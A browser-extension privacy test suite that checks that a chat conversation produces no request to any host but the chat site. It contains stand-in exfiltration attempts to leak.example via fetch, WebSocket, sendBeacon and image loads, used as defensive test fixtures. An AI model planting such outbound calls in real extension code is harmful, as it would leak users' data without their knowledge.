// Proof that nothing leaves. A whole conversation goes by on the extension as it ships while four witnesses write
// down every request: Playwright (pages), the debugger protocol (service worker, offscreen document, worker), the
// proxy that everything has to pass, and the browser's own log of its network with the origin of each request.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { highlighted, until } from "../annotations.mjs";
import { openBrowser, serviceWorker, SHIPPED_BUILD } from "../browser.mjs";
import { ask, hosts, sites } from "../chats.mjs";
import { question } from "../clients/scripts.mjs";
import { startScripted } from "../clients/scripted.mjs";
import { out } from "../places.mjs";
import { openPopup, report, statusLine } from "../popup.mjs";
import { readNetlog } from "../witness/netlog.mjs";
import { watchTargets } from "../witness/targets.mjs";

const chat = sites.chatgpt;
/** The extension's parts, as the debugger protocol calls them; a hidden document is a background page. */
const PARTS = ["service_worker", "background_page", "worker"];
const chatOrigin = new URL(chat.url).origin;

/** Opens a browser with all witnesses awake, does `work` in it, and gives what they saw. */
async function watched(name, options, work) {
  const netlog = join(out, `netlog-${name}.json`);
  const browser = await openBrowser({ ...options, netlog });
  const ofPages = [];
  let targets, asked;
  try {
    browser.context.on("request", (request) => ofPages.push(request.url()));
    targets = await watchTargets(browser.browser);
    await work(browser, targets);
    asked = [...browser.proxy.asked];
  } finally {
    await browser.close();
  }
  return { id: browser.id, ofPages, targets, asked, ...readNetlog(netlog) };
}

const originOf = (url) => (url.startsWith("chrome-extension:") ? url.split("/", 3).join("/") : new URL(url).origin);

/** Runs in a part of the extension: tries to send, and says how that went. */
async function tries() {
  const fetched = await fetch("https://leak.example/a", { mode: "no-cors" }).then(() => "sent", () => "refused");
  const socket = await new Promise((resolve) => {
    const opened = new WebSocket("wss://leak.example/b");
    opened.onopen = () => resolve("sent");
    opened.onerror = () => resolve("refused");
  }).catch(() => "refused");
  return [fetched, socket];
}

const hostAndPort = (url) => {
  const { protocol, hostname, port } = new URL(url);
  return `${hostname}:${port || (protocol === "http:" ? 80 : 443)}`;
};

describe("nothing leaves the machine", () => {
  it("in a whole conversation no request goes anywhere but to the chat's own site", async () => {
    const server = await startScripted({ hosts });
    try {
      const seen = await watched("conversation", { extension: SHIPPED_BUILD, routes: server.routes }, async (browser, targets) => {
        const { page } = browser;
        await page.goto(chat.url);
        for (const topic of ["danger", "correct", "acid", "cooking"]) {
          await ask(page, chat, question[topic]);
          await page.locator(chat.streaming).waitFor();
          await page.locator(chat.streaming).waitFor({ state: "detached" });
        }
        await highlighted(page, "danger", "household bleach");
        await until("the debugger to watch all parts", () => PARTS.every((type) => targets.types.has(type)));
        const all = async () => (await report(browser, page)).checked === 8;
        await until("all eight messages to be checked", all);
        const popup = await openPopup(browser, page);
        await statusLine(popup).filter({ hasText: "8 messages checked" }).waitFor();
        await popup.getByText("Nothing has left this device. 0 requests sent.").waitFor();
      });
      const ours = `chrome-extension://${seen.id}`;

      assert.ok(seen.ofPages.length > 0);
      assert.deepEqual(seen.ofPages.filter((url) => ![chatOrigin, ours].includes(originOf(url))), [], "requests of pages");

      for (const type of PARTS) assert.ok(seen.targets.types.has(type), `the debugger watched a ${type}`);
      assert.deepEqual(seen.targets.requests.filter(({ url }) => originOf(url) !== ours), [], "requests of the extension's workers");

      const foreign = seen.requests.filter(({ from, owner }) => `${from} ${owner}`.includes("chrome-extension:"));
      assert.deepEqual(foreign, [], "requests that the browser lays to the extension");
      const ofThePage = seen.requests.filter(({ from, owner }) => from === chatOrigin || owner.startsWith(chatOrigin));
      assert.deepEqual(ofThePage.filter(({ url }) => originOf(url) !== chatOrigin), [], "requests that the browser lays to the page");

      // What is left is the browser's own, such as its search for updates: known to its log, refused by the proxy.
      const own = new Set(seen.requests.filter(({ from, owner }) => from === null && !owner.startsWith(chatOrigin)).map(({ url }) => hostAndPort(url)));
      const passed = new Set(seen.asked.filter((host) => host !== hostAndPort(chat.url) && !own.has(host)));
      assert.deepEqual([...passed], [], "connections that pass the proxy");

      const expected = ["GET /", "GET /chat.css", "GET /chat.js", "GET /chatgpt.js", "GET /markdown.js", ...Array(4).fill("POST /v1/chat/completions")];
      const got = server.requests.map((line) => line.replace("chatgpt.com", ""));
      assert.deepEqual(got.sort(), expected.sort(), "the chat's own server is asked for nothing more either");
    } finally {
      server.close();
    }
  });

  it("the extension could not reach a foreign server if it wanted to", async () => {
    const server = await startScripted({ hosts });
    const seen = await watched("refused", { extension: SHIPPED_BUILD, routes: server.routes }, async ({ context, page, id }, targets) => {
      // The engine runs once there is something to read.
      await page.goto(chat.url);
      await ask(page, chat, question.danger);
      await highlighted(page, "danger", "household bleach");
      await until("the debugger to watch all parts", () => PARTS.every((type) => targets.types.has(type)));
      for (const type of PARTS) {
        await targets.evaluate(type, () => fetch("/manifest.json").then((response) => response.text()));
        assert.ok(targets.requests.some(({ url, type: by }) => url.endsWith("/manifest.json") && by === type), `the debugger hears the ${type}`);
        assert.deepEqual(await targets.evaluate(type, tries), ["refused", "refused"], type);
      }
      const popup = await context.newPage();
      await popup.goto(`chrome-extension://${id}/popup.html`);
      assert.deepEqual(await popup.evaluate(tries), ["refused", "refused"]);
      await popup.evaluate(() => navigator.sendBeacon("https://leak.example/c", "x"));
      await popup.evaluate(() => new Promise((resolve) => Object.assign(new Image(), { onerror: resolve, src: "https://leak.example/d" })));
    }).finally(() => server.close());
    assert.deepEqual(seen.asked.filter((host) => host.startsWith("leak.example")), []);
    assert.deepEqual(seen.requests.filter(({ url }) => url.includes("leak.example")), []);
  });

  it("the witnesses are awake: an extension that does send something is seen by each", async () => {
    const folder = mkdtempSync(join(tmpdir(), "fumehood-leak-"));
    try {
      writeFileSync(join(folder, "manifest.json"), JSON.stringify({ manifest_version: 3, name: "leak", version: "1", background: { service_worker: "leak.js" } }));
      writeFileSync(join(folder, "leak.js"), "");
      const seen = await watched("leak", { extension: folder }, async ({ context, page }, targets) => {
        await until("the debugger to watch the service worker", () => targets.types.has("service_worker"));
        const worker = await serviceWorker(context);
        await worker.evaluate(() => fetch("https://leak.example/a").catch(() => null));
        await page.evaluate(() => fetch("https://leak.example/b").catch(() => null));
      });
      assert.ok(seen.asked.includes("leak.example:443"), "the proxy");
      assert.ok(seen.targets.requests.some(({ url }) => url === "https://leak.example/a"), "the debugger protocol");
      assert.ok(seen.requests.some(({ url, from }) => url === "https://leak.example/a" && from === `chrome-extension://${seen.id}`), "the browser's log");
      assert.ok(seen.ofPages.includes("https://leak.example/b"), "Playwright");
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
